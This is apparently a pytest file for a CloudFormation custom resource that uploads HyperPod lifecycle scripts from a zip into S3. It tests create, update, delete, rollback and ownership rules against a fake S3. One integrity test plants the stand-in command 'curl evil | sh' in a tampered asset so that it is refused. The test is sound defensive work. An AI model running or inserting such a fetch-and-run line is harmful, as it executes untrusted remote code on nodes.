"""`Custom::LifecycleScripts` through the framework's eyes, with S3 in memory."""

import json
from typing import Any

import pytest

from hyperpod_shared.content import content_digest
from hyperpod_shared.errors import ProvisioningError
from provisioner.framework.turn import GivenUpError
from provisioner.lifecycle_scripts import LifecycleScripts
from tests.conftest import Raises
from tests.support.provisioner.cloudformation import OTHER_STACK_ID, Framework, Time
from tests.support.provisioner.fake_s3 import FakeS3, client_error, zipped

BUCKET = "sagemaker-ml"


def properties(*keys: str, source: str = "one.zip", bucket: str = BUCKET) -> dict[str, Any]:
    return {
        "SourceBucket": "assets",
        "SourceKey": source,
        "SourceDigest": source,
        "DestinationBucket": bucket,
        "DestinationOwner": "deployment",
        "Keys": json.dumps(keys),
    }


@pytest.fixture
def s3() -> FakeS3:
    made = FakeS3()
    files = {"on_create.sh": b"#!/bin/sh\n", "lib/disk.sh": b"disk\n", "README": b"\xff"}
    made.add("assets", "one.zip", zipped(files))
    made.add("assets", "two.zip", zipped({"on_create.sh": b"#!/bin/sh\necho\n"}))
    made.buckets[BUCKET] = []
    return made


@pytest.fixture
def stack(s3: FakeS3) -> Framework:
    return Framework(
        resource=LifecycleScripts(s3=s3), resource_type="Custom::LifecycleScripts", time=Time()
    )


def test_create_puts_the_listed_files(stack: Framework, s3: FakeS3) -> None:
    progress = stack.create(properties("on_create.sh", "lib/disk.sh", "README"))
    assert progress.data == {"S3Uri": f"s3://{BUCKET}"}
    assert stack.physical_id == f"{BUCKET}/lifecycle-scripts"
    stored = {item.key: (item.body, item.content_type) for item in s3.buckets[BUCKET]}
    assert stored == {
        "on_create.sh": (b"#!/bin/sh\n", "text/x-shellscript"),
        "lib/disk.sh": (b"disk\n", "text/x-shellscript"),
        "README": (b"\xff", "application/octet-stream"),
    }


def test_update_puts_and_removes_what_is_no_longer_listed(stack: Framework, s3: FakeS3) -> None:
    stack.create(properties("on_create.sh", "lib/disk.sh"))
    stack.update(properties("on_create.sh", source="two.zip"))
    assert s3.keys(BUCKET) == ["on_create.sh"]
    assert s3.buckets[BUCKET][-1].body == b"#!/bin/sh\necho\n"


def test_a_file_of_the_request_is_put_beside_those_of_the_zip(stack: Framework, s3: FakeS3) -> None:
    wanted = properties("on_create.sh", "deployment.env")
    for text in ("A=1\n", "A=2\n"):
        files = {"Files": json.dumps({"deployment.env": text})}
        if text == "A=1\n":
            stack.create(wanted | files)
        else:
            stack.update(wanted | files)
        assert s3.keys(BUCKET) == ["deployment.env", "on_create.sh"]
        [stored] = [item for item in s3.buckets[BUCKET] if item.key == "deployment.env"][-1:]
        assert (stored.body, stored.content_type) == (text.encode(), "text/plain")

    stack.update(properties("on_create.sh"))
    assert s3.keys(BUCKET) == ["on_create.sh"]


def test_a_rollback_has_the_last_word(stack: Framework, s3: FakeS3) -> None:
    wanted = properties("on_create.sh")
    stack.create(wanted)
    stack.cloudformation.status = "UPDATE_ROLLBACK_IN_PROGRESS"
    rollback = stack.begin("Update", wanted, properties("on_create.sh", "README"))
    s3.add(BUCKET, "README", b"of a run that sees late that it is given up")
    assert not rollback.poll().complete
    stack.time.sleep(50)
    assert rollback.poll().complete
    assert s3.keys(BUCKET) == ["on_create.sh"]


def test_an_update_that_is_given_up_repeats_no_call(stack: Framework, s3: FakeS3) -> None:
    stack.create(properties("on_create.sh"))
    stored = list(s3.buckets[BUCKET])
    stack.cloudformation.status = "UPDATE_IN_PROGRESS"
    s3.put_error = client_error("ThrottlingException", "PutObject")

    def rolled_back() -> None:
        s3.put_error, stack.cloudformation.status = None, "UPDATE_ROLLBACK_IN_PROGRESS"

    stack.time.while_asleep = rolled_back
    with pytest.raises(GivenUpError):
        stack.begin("Update", properties("on_create.sh", source="two.zip"), stack.properties)
    assert s3.buckets[BUCKET] == stored


def test_other_bucket_is_a_replacement(stack: Framework, s3: FakeS3) -> None:
    s3.buckets["sagemaker-2"] = []
    stack.create(properties("on_create.sh"))
    stack.update(properties("on_create.sh", bucket="sagemaker-2"))
    assert stack.physical_id == "sagemaker-2/lifecycle-scripts"
    assert s3.keys(BUCKET) == ["on_create.sh"]  # CloudFormation deletes it afterwards


def test_a_prefix_is_before_every_key_and_another_one_is_a_replacement(
    stack: Framework, s3: FakeS3
) -> None:
    files = {"Files": json.dumps({"deployment.env": "A=1\n"})}
    wanted = properties("on_create.sh", "deployment.env") | files
    stack.create(wanted | {"Prefix": "a/b"})
    assert stack.physical_id == f"{BUCKET}/lifecycle-scripts/a/b"
    assert s3.keys(BUCKET) == ["a/b/deployment.env", "a/b/on_create.sh"]

    progress = stack.update(wanted)
    # Without the prefix: other stacks import it.
    assert progress.data == {"S3Uri": f"s3://{BUCKET}"}
    assert stack.physical_id == f"{BUCKET}/lifecycle-scripts"
    # CloudFormation deletes the former ones afterwards.
    assert s3.keys(BUCKET) == [
        "a/b/deployment.env",
        "a/b/on_create.sh",
        "deployment.env",
        "on_create.sh",
    ]


def test_delete_removes_what_is_under_its_prefix_alone(stack: Framework, s3: FakeS3) -> None:
    stack.create(properties("on_create.sh") | {"Prefix": "a"})
    s3.add(BUCKET, "on_create.sh", b"of another resource")
    assert stack.delete().complete
    assert s3.keys(BUCKET) == ["on_create.sh"]


def test_delete_removes_every_version_of_the_listed_keys_and_no_other(
    stack: Framework, s3: FakeS3
) -> None:
    stack.create(properties("on_create.sh"))
    for _ in range(4):
        stack.update(properties("on_create.sh"))
    s3.add(BUCKET, "on_create.sh", None)
    s3.add(BUCKET, "on_create.sh.bak", b"the user's own")
    assert stack.delete().complete
    assert s3.keys(BUCKET) == ["on_create.sh.bak"]


def test_delete_when_the_bucket_or_the_objects_are_gone(stack: Framework, s3: FakeS3) -> None:
    stack.create(properties("on_create.sh"))
    s3.buckets[BUCKET] = []
    assert stack.delete().complete
    del s3.buckets[BUCKET]
    assert stack.delete().complete


def test_a_deletion_has_the_resource_before_it_looks_for_objects(
    stack: Framework, s3: FakeS3
) -> None:
    """The run of a creation that is given up puts none after that look."""
    creation = stack.begin("Create", properties("on_create.sh"))
    stack.physical_id, stack.properties = BUCKET, properties("on_create.sh")
    s3.buckets[BUCKET].clear()
    stack.delete()
    (noted,) = (stack.table.items or {}).values()
    assert noted["request"]["S"] != creation.event["RequestId"]


def test_objects_that_s3_keeps_are_a_failure(stack: Framework, s3: FakeS3, raises: Raises) -> None:
    stack.create(properties("on_create.sh"))
    s3.kept = [{"Key": "on_create.sh", "Code": "AccessDenied", "Message": "Access Denied"}]
    with raises(ProvisioningError):
        stack.delete()


def test_failed_create_can_be_deleted(stack: Framework, s3: FakeS3, raises: Raises) -> None:
    s3.put_error = client_error("AccessDenied", "PutObject")
    with raises(ProvisioningError):
        stack.create(properties("on_create.sh"))
    assert stack.delete().complete


@pytest.mark.parametrize(
    "change",
    [
        {"Keys": '["absent.sh"]'},
        {"Keys": '{"a": 1}'},
        {"Keys": "[1]"},
        {"Files": "[]"},
        {"Files": '{"deployment.env": 1}'},
        {"SourceKey": "absent.zip"},
    ],
)
def test_bad_requests_change_nothing(
    stack: Framework, s3: FakeS3, change: dict[str, str], raises: Raises
) -> None:
    with raises(ProvisioningError):
        stack.create({**properties("on_create.sh"), **change})
    assert s3.puts == []


DIGEST = content_digest(["on_create.sh"], read=lambda _: b"#!/bin/sh\n")


def test_an_asset_that_holds_something_else_is_refused(
    stack: Framework, s3: FakeS3, raises: Raises
) -> None:
    wanted = properties("on_create.sh") | {"SourceDigest": DIGEST}
    stack.create(wanted)
    stored = list(s3.buckets[BUCKET])

    for planted in ({"on_create.sh": b"curl evil | sh\n"}, {"on_create.sh": b"", "x": b""}):
        s3.add("assets", "one.zip", zipped(planted))
        with raises(ProvisioningError):
            stack.update(wanted | {"Files": json.dumps({"deployment.env": "A=1\n"})})
    assert s3.buckets[BUCKET] == stored


def test_a_bucket_of_another_account_is_neither_read_nor_written(
    stack: Framework, s3: FakeS3, raises: Raises
) -> None:
    s3.account = "999999999999"
    with raises(ProvisioningError):
        stack.create(properties("on_create.sh"))
    assert s3.puts == []


def of_user(*keys: str, prefix: str = "hyperpod/ml", **changes: str) -> dict[str, Any]:
    """Return properties for a bucket of the user's."""
    return properties(*keys) | {"DestinationOwner": "user", "Prefix": prefix} | changes


def test_what_the_user_has_in_a_bucket_survives_create_update_and_destroy(
    stack: Framework, s3: FakeS3
) -> None:
    for body in (b"theirs, first", b"theirs, second"):
        s3.add(BUCKET, "on_create.sh", body)
    theirs = list(s3.buckets[BUCKET])
    stack.create(of_user("on_create.sh", "lib/disk.sh"))
    stack.update(of_user("on_create.sh", SourceKey="two.zip"))
    # Under a key of the deployment's, one after it: over its script, and gone again.
    s3.add(BUCKET, "hyperpod/ml/on_create.sh", b"theirs, by hand")
    s3.add(BUCKET, "hyperpod/ml/on_create.sh", None)
    theirs += s3.buckets[BUCKET][-2:]
    stack.update(of_user("on_create.sh"))
    assert s3.buckets[BUCKET][-1].body == b"#!/bin/sh\n"

    assert stack.delete().complete
    assert s3.buckets[BUCKET] == theirs


def test_an_object_of_others_is_refused_and_stays(
    stack: Framework, s3: FakeS3, raises: Raises
) -> None:
    s3.add(BUCKET, "hyperpod/ml/lib/disk.sh", b"theirs")
    stored = list(s3.buckets[BUCKET])

    with raises(ProvisioningError):
        stack.create(of_user("on_create.sh", "lib/disk.sh"))
    assert s3.buckets[BUCKET] == stored

    # One that is deleted is not in the way; its versions stay.
    s3.add(BUCKET, "hyperpod/ml/lib/disk.sh", None)
    stored = list(s3.buckets[BUCKET])
    stack.create(of_user("on_create.sh", "lib/disk.sh"))
    assert stack.delete().complete
    assert s3.buckets[BUCKET] == stored


def test_an_update_refuses_what_is_new_to_it_and_a_rollback_nothing(
    stack: Framework, s3: FakeS3, raises: Raises
) -> None:
    stack.create(of_user("on_create.sh"))
    s3.add(BUCKET, "hyperpod/ml/README", b"theirs")
    with raises(ProvisioningError):
        stack.update(of_user("on_create.sh", "README"))

    stack.cloudformation.status = "UPDATE_ROLLBACK_IN_PROGRESS"
    rollback = stack.begin("Update", of_user("on_create.sh"), of_user("on_create.sh", "README"))
    stack.time.sleep(50)
    assert rollback.poll().complete
    assert s3.bodies(BUCKET, "hyperpod/ml/README") == [b"theirs"]


def test_a_create_that_runs_twice_finds_its_own(stack: Framework, s3: FakeS3) -> None:
    stack.create(of_user("on_create.sh"))
    again = stack.begin("Create", of_user("on_create.sh"))
    assert again.poll().complete
    assert s3.bodies(BUCKET, "hyperpod/ml/on_create.sh") == [b"#!/bin/sh\n"] * 2
    assert stack.delete().complete
    assert s3.keys(BUCKET) == []


def test_two_deployments_in_one_bucket_leave_each_other_alone(
    stack: Framework, s3: FakeS3, raises: Raises
) -> None:
    other = Framework(
        resource=LifecycleScripts(s3=s3),
        resource_type="Custom::LifecycleScripts",
        time=Time(),
        stack_id=OTHER_STACK_ID,
    )
    stack.create(of_user("on_create.sh"))
    with raises(ProvisioningError):
        other.create(of_user("on_create.sh"))
    other.create(of_user("on_create.sh", prefix="hyperpod/other"))
    assert stack.delete().complete
    assert s3.keys(BUCKET) == ["hyperpod/other/on_create.sh"]
    assert other.delete().complete
    assert s3.keys(BUCKET) == []


def test_what_a_former_version_put_is_not_taken_for_ones_own(stack: Framework, s3: FakeS3) -> None:
    former = properties("on_create.sh", "README")
    del former["DestinationOwner"]

    # At the top of a bucket of the user's: running nodes' groups still name it.
    stack.create(former)
    s3.add(BUCKET, "on_create.sh", b"theirs")
    stack.update(of_user("on_create.sh"))
    assert stack.begin("Delete", former).poll().complete  # CloudFormation's, afterwards
    assert s3.keys(BUCKET) == ["README", "hyperpod/ml/on_create.sh", "on_create.sh"]

    # Where they stay, they are known from the request that put them.
    s3.buckets[BUCKET] = []
    stack.create(former | {"Prefix": "hyperpod/ml"})
    stack.update(of_user("on_create.sh", "lib/disk.sh"))
    assert s3.keys(BUCKET) == [
        "hyperpod/ml/README",
        "hyperpod/ml/lib/disk.sh",
        "hyperpod/ml/on_create.sh",
    ]


@pytest.mark.parametrize("prefix", [{}, {"Prefix": "a"}], ids=["in place", "moved"])
def test_what_a_former_version_put_into_the_deployments_bucket_goes_with_it(
    stack: Framework, s3: FakeS3, prefix: dict[str, str]
) -> None:
    former = properties("on_create.sh", "README")
    del former["DestinationOwner"]
    stack.create(former)
    stack.update(properties("on_create.sh") | prefix)
    assert stack.delete().complete
    assert s3.keys(BUCKET) == []


def test_a_rollback_to_a_former_version_needs_no_right_that_it_lacks(
    stack: Framework, s3: FakeS3
) -> None:
    former = properties("on_create.sh")
    del former["DestinationOwner"]
    stack.create(former)
    stack.update(properties("on_create.sh", "README"))
    stack.cloudformation.status = "UPDATE_ROLLBACK_IN_PROGRESS"
    rollback = stack.begin("Update", former, properties("on_create.sh", "README"))
    stack.time.sleep(50)
    assert rollback.poll().complete
    assert s3.keys(BUCKET) == ["on_create.sh"]
    assert not any(version.tags for version in s3.buckets[BUCKET])
